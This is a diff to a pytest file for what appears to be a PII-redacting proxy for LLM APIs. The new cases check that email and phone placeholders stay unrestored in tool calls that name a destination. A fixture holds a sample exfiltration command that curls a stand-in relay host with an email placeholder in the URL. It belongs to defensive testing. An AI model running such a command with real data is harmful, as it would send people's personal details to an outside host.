@@ -49,8 +49,12 @@ GIVEN_ARGS = {
     "file": f"/home/ops/{E}.txt",
 }
 ARGS = {**KEPT_ARGS, **GIVEN_ARGS}
-WANT_ARGS = {**KEPT_ARGS, "to": MAIL, "note": f"Your address is {MAIL}. Call {PHONE}.", "mail": f"mailto:{MAIL}",
-             "file": f"/home/ops/{MAIL}.txt"}
+# scopes16: one call holding both names hosts and runs curl, so it is a scope that sends: every placeholder in it
+# stays, GIVEN_ARGS's too (README "a scope that sends").
+WANT_ARGS = dict(ARGS)
+# GIVEN_ARGS in a call of their own name no destination: restored.
+WANT_GIVEN = {"to": MAIL, "note": f"Your address is {MAIL}. Call {PHONE}.", "mail": f"mailto:{MAIL}",
+              "file": f"/home/ops/{MAIL}.txt"}
 SAID = f"Open tracker.example.io/v?e={E} or ping {P}.ops.example.com; your address is {E}, thanks"
 WANT = f"Open tracker.example.io/v?e={E} or ping {P}.ops.example.com; your address is {MAIL}, thanks"
 
@@ -80,6 +84,10 @@ def test_chat(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert json.loads(arguments) == WANT_ARGS
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": GIVEN_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
+    assert text == WANT
+    assert json.loads(arguments) == WANT_GIVEN
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -90,6 +98,10 @@ def test_responses(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert calls == [WANT_ARGS]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": GIVEN_ARGS}])
+    text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
+    assert text == WANT
+    assert calls == [WANT_GIVEN]
 
 
 def _anthropic(proxy: Proxy, stream: bool) -> tuple[str, list[Any]]:
@@ -113,6 +125,10 @@ def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert inputs == [WANT_ARGS]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": GIVEN_ARGS}])
+    text, inputs = _anthropic(proxy, stream)
+    assert text == WANT
+    assert inputs == [WANT_GIVEN]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -143,27 +159,36 @@ def test_responses_argument_that_is_a_placeholder(mock: Mock, proxy: Proxy, stre
 ESCAPED = ('{"to": "\\u003cEMAIL_ADDRESS_1\\u003E", "n": "\\u003CPHONE_NUMBER_1\\u003e", '
            '"both": "<EMAIL_ADDRESS_1\\u003e / \\u003cPHONE_NUMBER_1>", '
            '"fetch": "curl -s relay.example.com/in?m=\\u003cEMAIL_ADDRESS_1\\u003e"}')
-WANT_ESCAPED = {"to": MAIL, "n": PHONE, "both": f"{MAIL} / {PHONE}",
-                "fetch": "curl -s relay.example.com/in?m=<EMAIL_ADDRESS_1>"}
+# scopes16: `fetch` runs curl at relay.example.com, so the call is a scope that sends: every placeholder stays, as
+# the model wrote it (decoded, the escapes are `<` and `>`).
+WANT_ESCAPED = {"to": E, "n": P, "both": f"{E} / {P}", "fetch": "curl -s relay.example.com/in?m=<EMAIL_ADDRESS_1>"}
+# The same escaped placeholders in a call that names no destination come back restored.
+ESCAPED_LOCAL = ('{"to": "\\u003cEMAIL_ADDRESS_1\\u003E", "n": "\\u003CPHONE_NUMBER_1\\u003e", '
+                 '"both": "<EMAIL_ADDRESS_1\\u003e / \\u003cPHONE_NUMBER_1>"}')
+WANT_LOCAL = {"to": MAIL, "n": PHONE, "both": f"{MAIL} / {PHONE}"}
+ESCAPED_CASES = [(ESCAPED, WANT_ESCAPED), (ESCAPED_LOCAL, WANT_LOCAL)]
 
 
 @pytest.mark.parametrize(("stream", "chunk"), [(False, 0), (True, 1), (True, 4), (True, 7), (True, 0)],
                          ids=["whole", "stream-1", "stream-4", "stream-7", "stream-one-chunk"])
 def test_escaped_placeholders_chat(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
-    mock.script(chunk_chars=chunk or len(ESCAPED), tool_calls=[{"name": "send", "arguments": ESCAPED}])
-    _, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
-    assert json.loads(arguments) == WANT_ESCAPED
+    for raw, want in ESCAPED_CASES:
+        mock.script(chunk_chars=chunk or len(raw), tool_calls=[{"name": "send", "arguments": raw}])
+        _, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
+        assert json.loads(arguments) == want
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_escaped_placeholders_anthropic(mock: Mock, proxy: Proxy, stream: bool) -> None:
-    mock.script(chunk_chars=5, tool_calls=[{"name": "send", "arguments": ESCAPED}])
-    _, inputs = _anthropic(proxy, stream)
-    assert inputs == [WANT_ESCAPED]
+    for raw, want in ESCAPED_CASES:
+        mock.script(chunk_chars=5, tool_calls=[{"name": "send", "arguments": raw}])
+        _, inputs = _anthropic(proxy, stream)
+        assert inputs == [want]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_escaped_placeholders_responses(mock: Mock, proxy: Proxy, stream: bool) -> None:
-    mock.script(chunk_chars=2, tool_calls=[{"name": "send", "arguments": ESCAPED}])
-    _, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
-    assert calls == [WANT_ESCAPED]
+    for raw, want in ESCAPED_CASES:
+        mock.script(chunk_chars=2, tool_calls=[{"name": "send", "arguments": raw}])
+        _, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
+        assert calls == [want]
